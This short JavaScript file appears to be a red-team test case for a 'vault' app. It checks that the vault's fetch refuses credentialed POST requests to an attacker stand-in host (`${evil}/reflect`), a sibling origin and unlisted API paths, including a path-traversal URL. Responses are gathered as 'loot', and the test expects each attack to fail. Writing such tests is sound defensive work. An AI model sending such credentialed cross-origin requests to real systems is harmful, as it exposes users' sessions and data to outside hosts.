// A real attacker: runs a server that allows every origin with credentials and names back every header, and has the
// vault call it, or a part of the API that does so but is not listed.
export default {
  row: "own-endpoints",
  expected: ["loses", "loses"],
  after: async ({ api, evil, sibling }) => {
    const { app, redteam } = globalThis;
    const attempt = async (input, init) => {
      try {
        const response = await app.vault.fetch(input, init);
        redteam.loot([response.url, response.status, [...response.headers], await response.text()]);
        return response.status;
      } catch (error) {
        redteam.loot([error.name, error.code, error.message, error.stack]);
        return error.code ?? error.name;
      }
    };
    const outcomes = [];
    for (const url of [
      `${evil}/reflect`,
      `${sibling}/reflect`,
      `${api}/reflect`,
      `${api}/v2x/reflect`,
      `${api}/v1/../reflect`,
    ]) {
      for (const mode of ["cors", "no-cors", "same-origin"]) {
        outcomes.push(await attempt(url, { mode, credentials: "include", method: "POST", body: "x" }));
      }
    }
    return outcomes;
  },
};
